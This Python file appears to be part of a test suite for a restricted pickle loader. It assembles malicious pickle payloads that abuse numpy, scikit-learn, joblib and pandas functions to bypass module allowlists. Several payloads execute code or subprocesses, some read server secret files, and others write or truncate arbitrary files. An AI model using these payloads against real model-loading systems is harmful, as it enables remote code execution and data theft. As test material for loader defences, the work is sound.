"""Family 4: dangerous functions inside modules genuine files need (numpy, sklearn, joblib, pandas).

A loader that allows whole modules accepts all of these. The getattr-on-array payloads name
only globals that genuine files use, so only a check on *which attribute* getattr may fetch
stops them.
"""

from __future__ import annotations

from .helpers import getattr_, kwcall, ndarray_u8
from .opcodes import Call, Global, assemble
from .registry import Target, payload

F = "allowed-module"


@payload("numpy.load-allow_pickle", F, mentions=("load",))
def numpy_load(t: Target) -> bytes:
    """``numpy.load(EVIL_FILE, None, True)``: np.load unpickles a non-.npy file (os.system)."""
    path = str(t.evil_pickle("evil_array.npy"))
    return assemble(Call(Global("numpy", "load"), (path, None, True)), protocol=4)


@payload("numpy.memmap-w+", F, mentions=("memmap",))
def numpy_memmap(t: Target) -> bytes:
    """``numpy.memmap(MARKER, 'uint8', 'w+', 0, (16,))``: creates or truncates any file."""
    args = (str(t.marker), "uint8", "w+", 0, (16,))
    return assemble(Call(Global("numpy", "memmap"), args), protocol=4)


@payload("numpy._core.memmap-w+", F, mentions=("memmap",))
def numpy_core_memmap(t: Target) -> bytes:
    """``numpy._core.memmap.memmap(MARKER, ...)``: the same class under its defining module."""
    args = (str(t.marker), "uint8", "w+", 0, (16,))
    return assemble(Call(Global("numpy._core.memmap", "memmap"), args), protocol=2)


@payload("numpy.lib.format.open_memmap", F, mentions=("open_memmap",))
def numpy_open_memmap(t: Target) -> bytes:
    """``numpy.lib.format.open_memmap(MARKER, 'w+', 'uint8', (16,))``: writes an .npy file."""
    args = (str(t.marker), "w+", "uint8", (16,))
    return assemble(Call(Global("numpy.lib.format", "open_memmap"), args), protocol=4)


@payload("numpy.fromfile-reader", F, mentions=("fromfile",))
def numpy_fromfile(t: Target) -> bytes:
    """``numpy.fromfile(SERVER_FILE, 'uint8')``: reads a server file into the "model"."""
    return assemble(Call(Global("numpy", "fromfile"), (str(t.secret), "uint8")), protocol=4)


@payload("numpy.savetxt", F, mentions=("savetxt",))
def numpy_savetxt(t: Target) -> bytes:
    """``numpy.savetxt(MARKER, array)`` with the array built from allowed names."""
    args = (str(t.marker), ndarray_u8(b"\x01\x02\x03"))
    return assemble(Call(Global("numpy", "savetxt"), args), protocol=4)


@payload("numpy.save", F, mentions=("save",))
def numpy_save(t: Target) -> bytes:
    """``numpy.save(MARKER, array)``."""
    args = (str(t.marker), ndarray_u8(b"\x01\x02\x03"))
    return assemble(Call(Global("numpy", "save"), args), protocol=4)


@payload("operator.methodcaller-tofile", F, mentions=("methodcaller",))
def methodcaller_tofile(t: Target) -> bytes:
    """``methodcaller('tofile', MARKER)(array)``: ndarray.tofile writes the marker."""
    caller = Call(Global("operator", "methodcaller"), ("tofile", str(t.marker)))
    return assemble(Call(caller, (ndarray_u8(b"\x01\x02"),)), protocol=4)


@payload("getattr-ndarray.tofile", F)
def getattr_tofile(t: Target) -> bytes:
    """``getattr(array, 'tofile')(MARKER)``: every global named is one genuine files use."""
    tofile = getattr_(ndarray_u8(b"\x01\x02"), "tofile")
    return assemble(Call(tofile, (str(t.marker),)), protocol=4)


@payload("getattr-ndarray.dump", F)
def getattr_dump(t: Target) -> bytes:
    """``getattr(array, 'dump')(MARKER)``: ndarray.dump pickles itself into a file."""
    dump = getattr_(ndarray_u8(b"\x01\x02"), "dump")
    return assemble(Call(dump, (str(t.marker),)), protocol=4)


@payload("getattr-ndarray.tofile-sandbox", F, sandbox=True)
def getattr_tofile_sandbox(t: Target) -> bytes:
    """``getattr(array, 'tofile')(MARKER)`` with the sandbox on (the child shares the disk)."""
    tofile = getattr_(ndarray_u8(b"\x01\x02"), "tofile")
    return assemble(Call(tofile, (str(t.marker),)), protocol=4)


@payload("numpy.testing.measure", F, mentions=("measure", "testing"))
def numpy_measure(t: Target) -> bytes:
    """``numpy.testing.measure(SRC, 1)``: compiles and execs SRC."""
    return assemble(Call(Global("numpy.testing", "measure"), (t.python, 1)), protocol=4)


@payload("numpy.testing.runstring", F, mentions=("runstring", "testing"))
def numpy_runstring(t: Target) -> bytes:
    """``numpy.testing._private.utils.runstring(SRC, {})``: a bare exec."""
    func = Global("numpy.testing._private.utils", "runstring")
    return assemble(Call(func, (t.python, {})), protocol=2)


@payload(
    "sklearn.utils._testing.run_python_script",
    F,
    modules=("sklearn.utils._testing",),
    mentions=("_testing", "script"),
)
def sklearn_run_script(t: Target) -> bytes:
    """``sklearn.utils._testing.assert_run_python_script_without_output(SRC)``: a subprocess."""
    func = Global("sklearn.utils._testing", "assert_run_python_script_without_output")
    return assemble(Call(func, (t.python,)), protocol=4)


@payload(
    "sklearn.utils._testing.check_output",
    F,
    modules=("sklearn.utils._testing",),
    mentions=("_testing", "check_output"),
)
def sklearn_check_output(t: Target) -> bytes:
    """``sklearn.utils._testing.check_output(ARGV)``: subprocess re-exported by scikit-learn."""
    func = Global("sklearn.utils._testing", "check_output")
    return assemble(Call(func, (t.argv,)), protocol=2)


@payload(
    "sklearn.datasets.load_svmlight_file",
    F,
    modules=("sklearn.datasets",),
    mentions=("svmlight", "datasets"),
)
def sklearn_svmlight(t: Target) -> bytes:
    """``sklearn.datasets.load_svmlight_file(SERVER_FILE)``: reads a server file."""
    func = Global("sklearn.datasets", "load_svmlight_file")
    return assemble(Call(func, (str(t.secret),)), protocol=4)


@payload("sklearn.datasets.load_files", F, modules=("sklearn.datasets",), mentions=("load_files",))
def sklearn_load_files(t: Target) -> bytes:
    """``sklearn.datasets.load_files(TMP_DIR)``: reads every file under a server directory."""
    (t.tmp / "category").mkdir(exist_ok=True)
    (t.tmp / "category" / "doc.txt").write_text(t.secret.read_text())
    func = Global("sklearn.datasets._base", "load_files")
    return assemble(Call(func, (str(t.tmp),)), protocol=4)


@payload(
    "sklearn.datasets.fetch-network",
    F,
    modules=("sklearn.datasets",),
    mentions=("fetch", "datasets"),
)
def sklearn_fetch(t: Target) -> bytes:
    """``fetch_california_housing(data_home=MARKER)``: creates MARKER, then downloads."""
    func = Global("sklearn.datasets", "fetch_california_housing")
    return assemble(kwcall(func, (), {"data_home": str(t.marker)}), protocol=4)


@payload("joblib.load-path", F, mentions=("load",))
def joblib_load(t: Target) -> bytes:
    """``joblib.load(EVIL_FILE)``: a second, unchecked load of a server-side file."""
    return assemble(Call(Global("joblib", "load"), (str(t.evil_pickle()),)), protocol=4)


@payload("joblib.numpy_pickle.load-path", F, mentions=("load",))
def joblib_numpy_pickle_load(t: Target) -> bytes:
    """``joblib.numpy_pickle.load(EVIL_FILE)``: same, by its defining module (allowed module)."""
    func = Global("joblib.numpy_pickle", "load")
    return assemble(Call(func, (str(t.evil_pickle()),)), protocol=2)


@payload("joblib.dump-path", F, mentions=("dump",))
def joblib_dump(t: Target) -> bytes:
    """``joblib.dump([1], MARKER)``: writes a file."""
    return assemble(Call(Global("joblib", "dump"), ([1], str(t.marker))), protocol=4)


@payload("pandas.read_pickle", F, mentions=("read_pickle", "pandas"))
def pandas_read_pickle(t: Target) -> bytes:
    """``pandas.read_pickle(EVIL_FILE)``: unpickles a server-side file."""
    return assemble(Call(Global("pandas", "read_pickle"), (str(t.evil_pickle()),)), protocol=4)


@payload("pandas.io.pickle.read_pickle", F, mentions=("read_pickle", "pandas"))
def pandas_io_read_pickle(t: Target) -> bytes:
    """``pandas.io.pickle.read_pickle(EVIL_FILE)``."""
    func = Global("pandas.io.pickle", "read_pickle")
    return assemble(Call(func, (str(t.evil_pickle()),)), protocol=2)


@payload("pandas.read_csv-reader", F, mentions=("read_csv", "pandas"))
def pandas_read_csv(t: Target) -> bytes:
    """``pandas.read_csv(SERVER_FILE)``: reads a server file into a DataFrame."""
    return assemble(Call(Global("pandas", "read_csv"), (str(t.secret),)), protocol=4)


@payload("pandas.io.parsers.read_csv-reader", F, mentions=("read_csv", "pandas"))
def pandas_io_read_csv(t: Target) -> bytes:
    """``pandas.io.parsers.readers.read_csv(SERVER_FILE)``."""
    func = Global("pandas.io.parsers.readers", "read_csv")
    return assemble(Call(func, (str(t.secret),)), protocol=4)


@payload("numpy.fromfile-sandbox-reader", F, sandbox=True, mentions=("fromfile",))
def numpy_fromfile_sandbox(t: Target) -> bytes:
    """``numpy.fromfile(SERVER_FILE, 'uint8')`` with the sandbox on."""
    return assemble(Call(Global("numpy", "fromfile"), (str(t.secret), "uint8")), protocol=4)
